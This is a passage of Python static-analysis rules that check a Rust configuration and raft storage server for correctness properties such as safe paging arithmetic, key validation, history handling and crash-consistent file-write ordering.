    ck.rule(R, 'the change history belongs to the key, not to the value that is served at the moment: ConfigActor::set_tmp_config (the follower\'s temporary '
               'value for a routed publish) never replaces an EXISTING entry - from the Some edge of its lookup no cache.insert / cache.remove is reachable - '
               'and does not write `histories`. Building a fresh ConfigValue for the temporary content and inserting it over the entry restarts the history '
               'of the key at one item on that node (and in every snapshot it builds)')
    b = ck.body(CA + 'set_tmp_config', R)
    if not b:
        return
    look = util.mut_calls_on_field(b, 'cache', r'HashMap::<K, V, S, A>::(get_mut|get|entry|contains_key)$')
    some = util.option_edges(b, look, 'Some')
    ck.floor(R, 'lookup of the existing entry in set_tmp_config', len(some), 1)
    repl = util.mut_calls_on_field(b, 'cache', r'HashMap::<K, V, S, A>::(insert|remove)$')
    bad = []
    for (s0, d0, lab0) in some:
        r = cfg.reach_from(b, [d0])
        bad += [x for x in repl if x.bb in r]
    ck.require(not bad, R, 'set_tmp_config:existing-entry-not-replaced', bad[0].where() if bad else b.where(),
               'for a key that exists set_tmp_config reaches cache.%s: the stored entry, with the history of the key, is replaced by a value built from the temporary content'
               % (bad[0].callee.split('::')[-1] if bad else ''), 'existing entry is modified in place')
    hw = [x for x in util.region(fb, b, 1) for (o, f, bb, st) in x.field_writes() if f == 'histories' and x.name.startswith(CA)]
    hm = util.mut_calls_on_field(b, 'histories', r'Vec::<T, A>::(clear|truncate|drain|remove|pop|push|retain)$')
    ck.require(not hw and not hm, R, 'set_tmp_config:history-untouched', b.where(), 'set_tmp_config changes the history of the key', 'no write to histories')


PAGE_FIELDS = ('page_no', 'page_size', 'offset', 'limit', 'page_index')
PAGE_SCOPE = re.compile(r'^<?rnacos::(openapi::config::api|console::model::config_model|console::config_api|console::v2::config_api|config::config_index|config::core::Config(Actor|QueryParam|HistoryParam))')


def r09n(ck, fb, R='R09n'):
    ck.rule(R, '"correct totals across pages" for EVERY page number and size a client can send: in the config listing code (open api and console '
               'parameter builders, the search handler, ConfigIndex / TenantIndex paging) no arithmetic on a value that derives from page_no / '
               'page_size / offset / limit can panic or wrap: no checked +,-,* (MIR *WithOverflow: a panic in a debug build, a wrapped offset - page '
               '4294967297 serves page 1 again - in a release build), and no division (/, %, div_ceil) by such a value that is not behind a test of '
               'that value. pageNo=0 underflows, pageSize=0 divides by zero in the handler (the request is dropped), pageNo=2 with pageSize=2^64-1 '
               'overflows inside the config actor, whose thread dies: every later config request is answered "Mailbox has closed"')
    n = 0
    nb = 0
    for b in sorted(fb.bodies.values(), key=lambda x: x.name):
        if not PAGE_SCOPE.search(b.name) or '::tests::' in b.name or 'seeded_demo' in b.name or '::hunt_' in b.name or '::_::' in b.name:
            continue
        args = [l for l in range(1, b.argc + 1) if b.local_name(l) in PAGE_FIELDS]
        # values of the request only: not through calls of this crate (their results are program state: counts, list lengths)
        t = Taint(b, place_src=field_place_src(*PAGE_FIELDS), local_src=args,
                  stop_calls=lambda term: (cfg.callee_name(term) or '').startswith(('rnacos::', '<rnacos::')))
        hit = False

        def pure(o):
            from rn.facts import op_const
            return op_const(o) is not None or t.op_tainted(o)
        for (i, j, st) in b.stmts():
            rv = st.get('rv')
            if not rv or rv['k'] != 'bin':
                continue
            op = rv['op']
            if op in ('SubWithOverflow', 'MulWithOverflow', 'AddWithOverflow'):
                # an operation between a request value and program state (limit - rows.len()) may rest on an invariant the rule does not see;
                # one purely among request values and constants cannot
                if not (t.op_tainted(rv['a']) or t.op_tainted(rv['b'])) or not (pure(rv['a']) and pure(rv['b'])):
                    continue
                hit = True
                n += 1
                ck.bad(R, '%s:%s' % (fb.root_of(b.name).split('rnacos::')[-1], op), b.where(i),
                       '%s computes %s on a value that derives from the page number / size of the request without saturating or checking: '
                       'it panics (debug) or wraps (release) for page 0, or for a page number times size beyond usize - the listing is not '
                       'answered, or answered with the items of another page' % (fb.root_of(b.name), op[:3].lower()))
            elif op in ('Div', 'Rem') and t.op_tainted(rv['b']):
                hit = True
                n += 1
                _div_guard(ck, fb, b, i, rv['b'], R, op)
        for s0 in b.calls(r'::div_ceil$|::div_euclid$|::rem_euclid$|::next_multiple_of$'):
            if len(s0.args) > 1 and t.op_tainted(s0.args[1]):
                hit = True
                n += 1
                _div_guard(ck, fb, b, s0.bb, s0.args[1], R, s0.callee.split('::')[-1])
        if hit or t.t:
            nb += 1
            ck.analysed(b)
    ck.floor(R, 'config listing functions that handle page numbers / sizes', nb, 6)
    if n == 0:
        ck.ok(R, 'page-arithmetic-total', '', 'no checked arithmetic / unguarded division on page values in %d functions' % nb)


def _div_guard(ck, fb, b, bb, divisor, R, op):
    want = cfg.origin_fields(b, divisor)[-1:]
    d0 = cfg.strip_calls(b, cfg.describe_operand(b, divisor))
    ok = False
    for a in cfg.guard_atoms(b, bb):
        if a[0] == 'cmp':
            for side in (a[2], a[3]):
                sd = cfg.strip_calls(b, side)
                if sd['k'] == 'place' and want and sd['fields'][-1:] == want:
                    ok = True
                if sd['k'] == d0['k'] == 'arg' and sd['l'] == d0['l']:
                    ok = True
                if sd['k'] == d0['k'] == 'multi' and sd['l'] == d0['l']:
                    ok = True
    # the compiler's own `divisor == 0 -> panic` assert is not a guard: it IS the panic
    ck.require(ok, R, '%s:%s-by-page-value' % (fb.root_of(b.name).split('rnacos::')[-1], op), b.where(bb),
               '%s divides (%s) by a value that derives from the page size of the request without testing it: pageSize=0 panics the handler / the '
               'actor instead of answering an empty page' % (fb.root_of(b.name), op), 'behind a test of the divisor')


def r09o(ck, fb, R='R09o'):
    ck.rule(R, '"reading a key returns the most recently applied publish OF THAT KEY": a write travels as ConfigKey::build_key() (parts joined with '
               '\\x02) in the log entry, the snapshot and the backup and is read back by splitting, so only a key that survives that round trip is '
               'applied under its own name. ConfigRoute::set_config / del_config - the entry point of every publish and remove (HTTP, gRPC, console, '
               'zip import) - pass a check of the key before anything is sent (to the local ConfigActor or to the leader): a call, with its result '
               'branched on, of a function that rebuilds the key from build_key() and compares, or of ConfigKey::is_valid. Without it a gRPC publish '
               'of dataId "a\\x02b", group "t9" is acknowledged and stored as dataId "a", group "b", tenant "t9" - another tenant\'s key')
    CR = 'rnacos::raft::cluster::route::ConfigRoute::'
    CKN = 'rnacos::config::core::ConfigKey'

    def is_checker(name, depth=0):
        hb = fb.bodies.get(name or '')
        if hb is None or hb.parent:
            return False
        if name == CKN + '::is_valid':
            return True
        reg = util.region(fb, hb, 1)
        bk = any(x.calls(re.escape(CKN) + r'::build_key$') for x in reg)
        fr = any(x.calls(r'<' + re.escape(CKN) + r' as std::convert::From<&str>>::from$') for x in reg)
        cmp_ = any(x.calls(r'::(eq|ne)$') for x in reg)
        return (bk and fr and cmp_) or (depth < 1 and any(is_checker(s1.resolved or s1.callee, depth + 1) for x in reg for s1 in x.sites if s1.callee))
    n = 0
    for fn in ('set_config', 'del_config'):
        b = ck.main(CR + fn, R)
        if not b:
            continue
        sinks = [s0 for (s0, m0, v0, a0) in util.sends(b, r'ConfigAsyncCmd$')] + list(b.calls(r'RaftClusterRequestSender::send_request$'))
        ck.floor(R, 'places where %s hands the write on' % fn, len(sinks), 2)
        disc = {d['bb'] if isinstance(d, dict) and 'bb' in d else None for d in []}
        checks = [s0 for s0 in b.sites if s0.callee and is_checker(s0.resolved or s0.callee)]
        # the answer of the check is looked at: it flows into a Try::branch / a match (a switch on it dominates the sinks)
        looked = [s0 for s0 in checks if any(Taint(b, local_src=[s0.dst] if isinstance(s0.dst, int) else []).op_tainted(t0['discr'])
                                             for (sb, d0, lab0, t0) in cfg.switch_edges(b))]
        for s1 in sinks:
            n += 1
            ok = bool(looked) and cfg.dominates_blocks(b, {s0.bb for s0 in looked}, s1.bb)
            ck.require(ok, R, '%s:key-checked-before-%s' % (fn, (s1.callee or '').split('::')[-1]), s1.where(),
                       'ConfigRoute::%s hands the write on without having checked that the key survives build_key() -> ConfigKey::from(&str): a key '
                       'whose dataId / group / tenant contains \\x02 is acknowledged and applied under ANOTHER key (dataId a\\x02b, group t9 -> dataId a, '
                       'group b, tenant t9), the published key stays not-found' % fn, 'behind the key check')
    ck.floor(R, 'hand-over sites judged', n, 4)


def r09q(ck, fb, R='R09q'):
    ck.rule(R, '"reading a key returns exactly the content, type and description of the most recently applied publish": the applied log entry reaches '
               'set_config as it was committed. In the handler of ConfigRaftCmd every field of SetConfigParam except config_type (normalised through '
               'ConfigType, listed) is the field of the same name of the ConfigAdd entry, unchanged - not the result of a filter / map / default. '
               'set_config reads None as "keep what is stored": turning Some("") into None makes a publish that clears the description keep the '
               'description of an older publish')
    hs = [b for b in fb.bodies.values() if re.search(r'ConfigActor as actix::Handler<rnacos::config::model::ConfigRaftCmd>>::handle', b.name) and b.aggregates(r'SetConfigParam$')]
    ck.floor(R, 'bodies that build SetConfigParam from a raft command', len(hs), 1)
    n = 0
    for b in hs:
        ck.analysed(b)
        for (i, j, st) in b.aggregates(r'SetConfigParam$'):
            rv = st['rv']
            for f, o in zip(rv['fields'], rv['ops']):
                if f == 'config_type':
                    continue
                n += 1
                d = cfg.strip_calls(b, cfg.describe_operand(b, o))
                ok = d['k'] == 'place' and d['fields'][-1:] == [f] and d['root']['k'] == 'arg'
                ck.require(ok, R, 'ConfigAdd:%s-as-committed' % f, b.where(i),
                           'SetConfigParam.%s is not the %s of the committed entry as it is (%s): what is applied differs from what was published - for '
                           'the description: a publish with an empty description keeps the description of an older publish' % (f, f, cfg.fmt_desc(d)[:60]),
                           'the entry\'s %s' % f)
    ck.floor(R, 'SetConfigParam fields judged', n, 7)


def r09r(ck, fb, R='R09r'):
    ck.rule(R, '"the change history of a key ... newest first, bounded to the last 100": the bound keeps the NEWEST entries, and it is applied where a '
               'full value is stored (inner_set_config, R09l). The decoder of a stored value (From<ConfigValueDO> for ConfigValue) hands the whole '
               'history list on, oldest first as it was written: no filter / skip / take / step_by / truncate between `histories` of the record and '
               '`histories` of the value. A take(100) there keeps the OLDEST 100 of a longer list (an import file, a snapshot of another version): '
               'GET returns v130 while the history ends at v100, and the trim that would have kept the newest never sees more than 100 items')
    DROP = re.compile(r'Iterator::(filter|filter_map|skip|skip_while|take|take_while|step_by)$|Iterator>::(filter|filter_map|skip|skip_while|take|take_while|step_by)$|Vec::<T, A>::(truncate|drain|retain|split_off)$')
    bs = fb.impls(r'convert::From$', r'config::core::ConfigValue$', r'ConfigValueDO', 'from')
    ck.floor(R, 'decoder bodies From<ConfigValueDO> for ConfigValue', len(bs), 1)
    for b in bs:
        ck.analysed(b)
        t = Taint(b, place_src=field_place_src('histories'))
        bad = [s0 for s0 in b.sites if DROP.search(s0.resolved or s0.callee or '') and s0.args and t.op_tainted(s0.args[0])]
        ck.require(not bad, R, 'From<ConfigValueDO>:history-handed-on-completely', bad[0].where() if bad else b.where(),
                   'the decoder of a stored config value shortens the history list (%s): the list is oldest first, so the newest entries of a list longer '
                   'than the bound are dropped - the history no longer ends with the content that is served' % ((bad[0].resolved or bad[0].callee).split('::')[-1] if bad else ''),
                   'no shortening adaptor')
