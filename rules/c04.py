"""C04 Raft store is crash-consistent at every file-write boundary (ordering / ownership clauses only)."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands

FSMOD = 'rnacos::raft::filestore::'
RL = FSMOD + 'raftlog::'
LIM = RL + 'LogInnerManager::'
RI = FSMOD + 'raftindex::'
RS = FSMOD + 'raftsnapshot::'
RA = FSMOD + 'raftapply::'
FS = '<rnacos::raft::filestore::core::FileStore as async_raft_ext::RaftStorage<rnacos::raft::store::ClientRequest, rnacos::raft::store::ClientResponse>>::'

# who may mutate files of the raft store (who-may-call table; confirmed by reading)
# who may mutate files of the raft store: impl type -> kinds of mutation it may perform (who-may-call table; confirmed by reading)
WRITER_TYPES = {
    'rnacos::raft::filestore::raftlog::LogInnerManager': ({'write_all', 'set_len'}, 'the log file: header, records, index entries, truncation'),
    'rnacos::raft::filestore::raftindex::RaftIndexInnerManager': ({'write_all'}, 'the catalogue file'),
    'rnacos::raft::filestore::raftsnapshot::SnapshotWriter': ({'write_all'}, 'snapshot files'),
    'rnacos::raft::filestore::raftsnapshot::RaftSnapshotManager': ({'remove_file'}, 'removes superseded snapshot files'),
    'rnacos::raft::filestore::raftlog::RaftLogManager': ({'remove_file'}, 'removes compacted log files'),
}
MUTATORS = r'(AsyncWriteExt::(write_all|write|write_buf|write_all_buf)$|tokio::fs::File::set_len$|std::fs::remove_file$|tokio::fs::remove_file|' \
           r'std::fs::rename$|tokio::fs::rename|std::fs::write$|tokio::fs::write$|std::io::Write::write_all$|std::fs::File::set_len$)'


def run(ck, fb):
    ck.explanation = (
        'Decides ordering and ownership clauses that every crash-consistency argument for the store needs: (a) in write() the data record '
        'is written before its index entry; (b) snapshot publication order: records -> Flush -> CompleteSnapshot -> pointer log, and '
        'install order InstallSnapshot -> ApplySnapshot -> SplitOff -> pointer log, each step awaited; (c) the catalogue write is '
        'flushed before write_index returns Ok, and the fresh image has the layout the reader expects (raw 8-byte header, record at '
        'offset 8); (d) only the frozen owner table mutates files under raft::filestore; (e) complete_snapshot never removes the most '
        'recent catalogued snapshot; (f) last_applied is recorded after the request was handed to the state machine.')
    ck.undecided = ('Does not enumerate crash points or decide recoverability from each intermediate image (a dynamic technique); '
                    'does not model the two tokio handles on one log file.')
    r04a(ck, fb)
    r04b(ck, fb)
    r04c(ck, fb)
    r04d(ck, fb)
    r04e(ck, fb)
    r04f(ck, fb)
    r04g(ck, fb)
    r04h(ck, fb)
    from rules.c02 import r02h
    r02h(ck, fb, 'R04i')
    r04j(ck, fb)
    r04k(ck, fb)
    r04l(ck, fb)
    r04m(ck, fb)
    ck.borrow('rules.c20', {'R20i': 'R04n'}, 'a kill right after the first catalogue write (term and vote only) leaves an 11..17 byte index file: it must reopen')


def r04a(ck, fb):
    ck.rule('R04a', 'LogInnerManager::write: data_file.write_all dominates index_file.write_all; the index entry is written at index_cursor '
                    '(seek before write); periodic flush covers both handles')
    w = ck.main(LIM + 'write', 'R04a')
    if not w:
        return
    dw = util.sites_on_field(w, r'AsyncWriteExt::write_all$', 'data_file', deep=1)
    iw = util.sites_on_field(w, r'AsyncWriteExt::write_all$', 'index_file', deep=1)
    ck.floor('R04a', 'data writes', len(dw), 1)
    ck.floor('R04a', 'index writes', len(iw), 1)
    for s in iw:
        ck.require(cfg.dominates_blocks(w, {x.bb for x in dw}, s.bb), 'R04a', 'write:data-before-index', s.where(),
                   'the index entry can be written before (or without) the data record it points behind')
        ck.require(util.awaited(w, s), 'R04a', 'write:index-awaited', s.where(), 'index write future is not awaited')
    # the index entry is written at index_cursor: in the body that really holds the index write, a seek(index_cursor) dominates it
    okseek = False
    for b2 in util.region(fb, w):
        real = util.sites_on_field(b2, r'AsyncWriteExt::write_all$', 'index_file')
        for s in real:
            sk = util.sites_on_field(b2, r'AsyncSeekExt::seek$', 'index_file')
            t = Taint(b2, place_src=field_place_src('index_cursor'))
            okseek = any(cfg.dominates_blocks(b2, {x.bb}, s.bb) and t.op_tainted(x.args[1]) for x in sk)
            ck.require(okseek, 'R04a', 'write:index-seek', s.where(), 'index entry is not written at index_cursor')
            ck.require(util.awaited(b2, s), 'R04a', 'write:index-write-awaited', s.where(), 'index write future is not awaited')
    for s in dw:
        ck.require(util.awaited(w, s), 'R04a', 'write:data-awaited', s.where(), 'data write future is not awaited')
    f = ck.main(LIM + 'flush_log', 'R04a')
    if f:
        fd = util.sites_on_field(f, r'AsyncWriteExt::flush$', 'data_file')
        fi = util.sites_on_field(f, r'AsyncWriteExt::flush$', 'index_file')
        ck.require(bool(fd) and bool(fi) and all(util.awaited(f, s) for s in fd + fi), 'R04a', 'flush_log:both-handles', f.where(),
                   'flush_log does not flush both the data and the index handle')
        lf = [(bb, st) for (o, fld, bb, st) in f.field_writes() if fld == 'last_flush_index']
        ck.require(bool(lf) and all(cfg.dominates_blocks(f, {s.bb for s in fd}, bb) for bb, _ in lf), 'R04a', 'flush_log:mark-after-flush',
                   f.where(), 'last_flush_index is advanced before the flush happened')


def _order(ck, rule, b, key, steps):
    """steps: list of (label, [blocks]); each step must be dominated by the previous one and awaited sites are given as Site lists"""
    prev = None
    for (label, sites) in steps:
        if not sites:
            ck.bad(rule, '%s:%s:missing' % (key, label), b.where(), 'step %s not found in %s' % (label, b.name))
            return
        for s in sites:
            if prev is not None:
                ck.require(cfg.dominates_blocks(b, {p.bb for p in prev[1]}, s.bb), rule, '%s:%s-before-%s' % (key, prev[0], label), s.where(),
                           'step %s can be reached without step %s having completed first' % (label, prev[0]),
                           '%s dominates %s' % (prev[0], label))
            ck.require(util.awaited(b, s), rule, '%s:%s-awaited' % (key, label), s.where(), 'step %s is not awaited' % label)
        prev = (label, sites)


def r04b(ck, fb):
    ck.rule('R04b', 'publication order, every step awaited with send().await: do_build_snapshot: build_snapshot(records) -> '
                    'SnapshotWriterRequest::Flush -> RaftSnapshotRequest::CompleteSnapshot; do_log_compaction: BuildSnapshot -> '
                    'BuildSnapshotPointerLog; finalize_snapshot_installation: InstallSnapshot -> ApplySnapshot -> SplitOff -> '
                    'InstallSnapshotPointerLog')
    b = ck.main(RA + 'StateApplyManager::do_build_snapshot', 'R04b')
    if b:
        _order(ck, 'R04b', b, 'do_build_snapshot', [
            ('NewSnapshot', [s for (s, m, v, a) in util.sends(b, r'RaftSnapshotRequest$', 'NewSnapshot')]),
            ('build_snapshot', b.calls(r'RaftDataHandler::build_snapshot$')),
            ('Flush', [s for (s, m, v, a) in util.sends(b, r'SnapshotWriterRequest$', 'Flush')]),
            ('CompleteSnapshot', [s for (s, m, v, a) in util.sends(b, r'RaftSnapshotRequest$', 'CompleteSnapshot')]),
        ])
        # the snapshot covers exactly last_index: header.last_index and SnapshotRange.end_index both from the last_index argument
        for (i, j, s) in b.aggregates(r'model::SnapshotHeaderDto$') + b.aggregates(r'log::SnapshotRange$'):
            rv = s['rv']
            fld = 'last_index' if 'last_index' in rv['fields'] else 'end_index'
            op = rv['ops'][rv['fields'].index(fld)]
            ln = [l for l in range(len(b.locals)) if b.local_name(l) == 'last_index']
            t = Taint(b, local_src=ln, place_src=lambda p: any(isinstance(e, dict) and e.get('f') == 'last_index' for e in ([] if isinstance(p, int) else p['p'])))
            ck.require(t.op_tainted(op), 'R04b', 'do_build_snapshot:%s.%s<-last_index' % (rv['adt'].split('::')[-1], fld), b.where(i),
                       '%s.%s is not the last applied index the snapshot was built for' % (rv['adt'], fld))
    c = ck.main(FS + 'do_log_compaction', 'R04b')
    if c:
        _order(ck, 'R04b', c, 'do_log_compaction', [
            ('BuildSnapshot', [s for (s, m, v, a) in util.sends(c, r'StateApplyAsyncRequest$', 'BuildSnapshot')]),
            ('BuildSnapshotPointerLog', [s for (s, m, v, a) in util.sends(c, r'RaftLogManagerRequest$', 'BuildSnapshotPointerLog')]),
        ])
    f = ck.main(FS + 'finalize_snapshot_installation', 'R04b')
    if f:
        _order(ck, 'R04b', f, 'finalize_snapshot_installation', [
            ('InstallSnapshot', [s for (s, m, v, a) in util.sends(f, r'RaftSnapshotRequest$', 'InstallSnapshot')]),
            ('ApplySnapshot', [s for (s, m, v, a) in util.sends(f, r'StateApplyRequest$', 'ApplySnapshot')]),
            ('SplitOff', [s for (s, m, v, a) in util.sends(f, r'RaftLogManagerRequest$', 'SplitOff')]),
            ('InstallSnapshotPointerLog', [s for (s, m, v, a) in util.sends(f, r'RaftLogManagerRequest$', 'InstallSnapshotPointerLog')]),
        ])


def r04c(ck, fb):
    ck.rule('R04c', 'RaftIndexInnerManager::{write_index,init}: every path from write_all to Ok passes an awaited flush; write_index seeks to '
                    'offset 8 (after the last_applied header) before writing; write_last_applied_log seeks to 0 and writes id_to_bin')
    for fn, need_seek in (('write_index', 8), ('init', 0)):
        b = ck.main(RI + 'RaftIndexInnerManager::' + fn, 'R04c')
        if not b:
            continue
        wa = b.calls(r'AsyncWriteExt::write_all$')
        fl = b.calls(r'AsyncWriteExt::flush$')
        ck.floor('R04c', 'write_all in ' + fn, len(wa), 1)
        for s in wa:
            oks = util.ok_return_blocks(b)
            ok = bool(fl) and cfg.must_pass_before_return(b, s.bb, {x.bb for x in fl}, returns=oks) and all(util.awaited(b, x) for x in fl)
            ck.require(ok, 'R04c', '%s:flush-before-ok' % fn, s.where(), '%s can return Ok after write_all without an awaited flush' % fn)
            sk = b.calls(r'AsyncSeekExt::seek$')
            good = False
            for x in sk:
                if not cfg.dominates_blocks(b, {x.bb}, s.bb):
                    continue
                a = util.agg_of(b, x.args[1])
                if a and a['variant'] == 'Start':
                    d = cfg.describe_operand(b, a['ops'][0])
                    if d['k'] == 'const' and str(d['c'].get('v')) == str(need_seek):
                        good = True
            ck.require(good, 'R04c', '%s:seek(%d)' % (fn, need_seek), s.where(), '%s does not seek to offset %d before writing' % (fn, need_seek))
    b = ck.main(RI + 'RaftIndexInnerManager::write_last_applied_log', 'R04c')
    if b:
        wa = b.calls(r'AsyncWriteExt::write_all$')
        t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('byte_utils::id_to_bin'))
        ck.require(len(wa) >= 1 and all(t.op_tainted(_x.args[1]) for _x in wa), 'R04c', 'write_last_applied_log:id_to_bin', b.where(),
                   'last_applied header is not written as the raw 8 byte id')
        ck.require('last_applied_log' in util.assigned_fields(b) and 'applied_flush' in util.assigned_fields(b), 'R04c',
                   'write_last_applied_log:state', b.where(), 'in-memory last_applied / dirty flag not updated')


def r04d(ck, fb):
    ck.rule('R04d', 'single writer per file family: inside raft::filestore only the frozen owner table calls file mutators '
                    '(write_all, set_len, remove_file, rename); a new mutator elsewhere fails closed until triaged')
    seen = {}
    for b in fb.bodies.values():
        if not b.name.startswith(FSMOD) and not b.name.startswith('<rnacos::raft::filestore::'):
            continue
        if '::tests::' in b.name or '::test' in b.name.split('::')[-1]:
            continue
        sites = b.calls(MUTATORS)
        if not sites:
            continue
        root = fb.bodies[fb.root_of(b.name)]
        seen.setdefault(root.name, (root, []))[1].extend(sites)
    for name, (root, sites) in sorted(seen.items()):
        ck.analysed(root)
        ty = root.self_ty
        kinds = set(s.callee.split('::')[-1] for s in sites)
        allowed = WRITER_TYPES.get(ty)
        ck.require(allowed is not None and kinds <= allowed[0], 'R04d', 'writer:%s' % name, sites[0].where(),
                   '%s (impl of %s) mutates a raft store file (%s) but that type is not a registered writer of this kind: a second writer of the same '
                   'file family breaks the ordering argument of R04a-c' % (name, ty, sorted(kinds)), allowed[1] if allowed else '')
    ck.floor('R04d', 'file-mutating functions found', len(seen), 9)


def r04e(ck, fb):
    ck.rule('R04e', 'RaftSnapshotManager::complete_snapshot removes only snapshots[0..len-1] (never the most recent catalogued one), keeps '
                    'the last one in the new catalogue, and saves the catalogue (SaveSnapshots) on every path')
    b = ck.body(RS + 'RaftSnapshotManager::complete_snapshot', 'R04e')
    if not b:
        return
    rm = b.calls(r'std::fs::remove_file$')
    ck.floor('R04e', 'remove_file in complete_snapshot', len(rm), 1)
    # the removal loop runs over the first len()-1 catalogued snapshots: its iterator (slice range or .take(n)) depends on a value
    # computed as len() - 1, under len() > 1
    tl = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '') == 'std::vec::Vec::<T, A>::len')
    subs = [st for (i, j, st) in b.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] in ('SubWithOverflow', 'Sub')
            and str((st['rv']['b'].get('c') or {}).get('v')) == '1' and tl.op_tainted(st['rv']['a']) and isinstance(st['d'], int)]
    good = False
    if subs:
        tk = Taint(b, local_src=[st['d'] for st in subs])
        for r in rm:
            nxs = [x for x in b.calls(r'Iterator>::next$') if cfg.dominates_blocks(b, {x.bb}, r.bb)]
            if any(tk.op_tainted(x.args[0]) for x in nxs):
                good = True
    ck.require(good, 'R04e', 'complete_snapshot:keeps-last', b.where(),
               'the removal loop over self.snapshots is not bounded by len()-1: the most recent catalogued snapshot could be deleted before '
               'its successor is catalogued')
    # ... and that bound is exclusive: no inclusive range / bound+1 built from len()-1 (that would delete snapshots[len-1], the one every
    # reader uses until the new catalogue is on disk)
    if subs:
        incl = [x for x in b.calls(r'RangeInclusive::<Idx>::new$|RangeInclusive') if any(tk.op_tainted(a) for a in x.args)]
        incl += [st for (i, j, st) in b.stmts() if st.get('rv', {}).get('k') == 'agg' and 'Inclusive' in str(st['rv'].get('adt') or st['rv'].get('def') or '')
                 and any(tk.op_tainted(o) for o in st['rv']['ops'])]
        plus = [st for (i, j, st) in b.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] in ('Add', 'AddWithOverflow')
                and (tk.op_tainted(st['rv']['a']) or tk.op_tainted(st['rv']['b'])) and not st.get('exp')]
        ck.require(not incl and not plus, 'R04e', 'complete_snapshot:bound-exclusive', b.where(),
                   'the removal loop runs up to and including snapshots[len-1] (inclusive range or bound+1): the most recent catalogued snapshot is '
                   'deleted while the on-disk catalogue still names it; a kill before SaveSnapshots lands leaves last_applied pointing at nothing')
    sv = b.calls(r'RaftSnapshotManager::save_snapshot_to_index$')
    rets = b.return_blocks()
    ck.require(bool(sv) and not (set(rets) & cfg.reach_from(b, [0], blocked_blocks={s.bb for s in sv})), 'R04e', 'complete_snapshot:saves-catalogue', b.where(),
               'complete_snapshot can return without saving the snapshot catalogue')
    # the new catalogue carries the previous last range and the new range
    tn = Taint(b, local_src=[3], mut_args=True)
    tlast = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('::last'), mut_args=True)
    wr = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'snapshots']
    pushed = [x for x in util.mut_calls_on_field(b, 'snapshots', r'Vec::<T, A>::push$')]
    okn = any(tn.op_tainted(o) for (bb, st) in wr for o in __import__('rn.facts', fromlist=['rv_operands']).rv_operands(st['rv'])) or any(tn.op_tainted(x.args[1]) for x in pushed)
    okl = any(tlast.op_tainted(o) for (bb, st) in wr for o in __import__('rn.facts', fromlist=['rv_operands']).rv_operands(st['rv']))
    ck.require(okn and okl, 'R04e', 'complete_snapshot:new-catalogue', b.where(),
               'the new catalogue no longer carries both the previous last snapshot and the new one')
    s = ck.body(RS + 'RaftSnapshotManager::save_snapshot_to_index', 'R04e')
    if s:
        ck.require(len(util.sends(s, r'RaftIndexRequest$', 'SaveSnapshots')) == 1, 'R04e', 'save_snapshot_to_index:SaveSnapshots', s.where(),
                   'snapshot catalogue is not sent to the index manager')


def r04f(ck, fb):
    ck.rule('R04f', 'RaftIndexInnerManager::init: the fresh image is the raw 8-byte header (id_to_bin) followed by the length-prefixed record '
                    '(no length-prefixed header: quick_protobuf Writer::write_bytes must not be used), and the reader takes the header from '
                    'the first 8 bytes and the record at offset 8')
    b = ck.main(RI + 'RaftIndexInnerManager::init', 'R04f')
    if not b:
        return
    wb = b.calls(r'quick_protobuf::Writer::<W>::write_bytes$')
    wm = b.calls(r'quick_protobuf::Writer::<W>::write_message$')
    idb = b.calls(r'byte_utils::id_to_bin$')
    ck.require(not wb and len(wm) == 1 and len(idb) >= 1, 'R04f', 'RaftIndexInnerManager::init:raw-header', b.where(),
               'the fresh index image length-prefixes its 8-byte last_applied header (Writer::write_bytes): the record then starts at '
               'offset 9 while write_index/FileMessageReader use offset 8, and a store that never applied a log reports a garbage '
               'last_applied_log (first byte 0x08) after restart', 'header raw, record at 8')
    if wm and idb:
        # the buffer handed to Writer::new is seeded by id_to_bin
        nw = b.calls(r'quick_protobuf::Writer::<W>::new$')
        t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('byte_utils::id_to_bin'))
        ck.require(bool(nw) and t.op_tainted(nw[0].args[0]), 'R04f', 'RaftIndexInnerManager::init:buffer-seeded-by-header', b.where(),
                   'the record buffer is not seeded with the raw header')
    rd = b.calls(r'FileMessageReader::new$')
    okr = False
    for s in rd:
        d = cfg.describe_operand(b, s.args[1])
        if d['k'] == 'const' and str(d['c'].get('v')) == '8':
            okr = True
    ck.require(okr, 'R04f', 'RaftIndexInnerManager::init:reader-offset-8', b.where(), 'the catalogue record is not read from offset 8')
    bi = b.calls(r'byte_utils::bin_to_id$')
    ck.require(len(bi) >= 1, 'R04f', 'RaftIndexInnerManager::init:header-read', b.where(), 'last_applied header is not decoded with bin_to_id')


def r04g(ck, fb):
    ck.rule('R04g', 'last-applied is recorded after the request reached the state machine: async_apply_request_to_state_machine sends '
                    'SaveLastAppliedLog(request.index) only after apply_log_to_state_machine returned Ok; ApplyBatchRequest sends it after '
                    'the loop over the batch')
    b = ck.main(RA + 'StateApplyManager::async_apply_request_to_state_machine', 'R04g')
    if b:
        ap = b.calls(r'RaftDataHandler::apply_log_to_state_machine$')
        sv = util.sends(b, r'RaftIndexRequest$', 'SaveLastAppliedLog')
        ck.require(len(ap) == 1 and len(sv) == 1, 'R04g', 'async_apply:sites', b.where(), 'apply / SaveLastAppliedLog sites not found')
        if ap and sv:
            s = sv[0][0]
            ck.require(cfg.dominates_blocks(b, {ap[0].bb}, s.bb), 'R04g', 'async_apply:apply-before-save', s.where(),
                       'last_applied can be saved before the request was applied')
            # under the Continue (Ok) arm of the `?` on the apply result
            vg = util.variant_guards(b, s.bb)
            ck.require(any(v == 'Continue' for (_, v) in vg), 'R04g', 'async_apply:save-only-on-ok', s.where(),
                       'last_applied is saved although applying failed')
            t = Taint(b, place_src=field_place_src('index'))
            ck.require(t.op_tainted(sv[0][3]['ops'][0]), 'R04g', 'async_apply:index', s.where(), 'saved last_applied is not request.index')
    h = ck.body('<rnacos::raft::filestore::raftapply::StateApplyManager as actix::Handler<rnacos::raft::filestore::raftapply::StateApplyRequest>>::handle', 'R04g')
    h = util.body_with_call(fb, h, r'StateApplyManager::apply_request_to_state_machine$')    # the batch loop may live in a helper
    if h:
        ap = h.calls(r'StateApplyManager::apply_request_to_state_machine$')
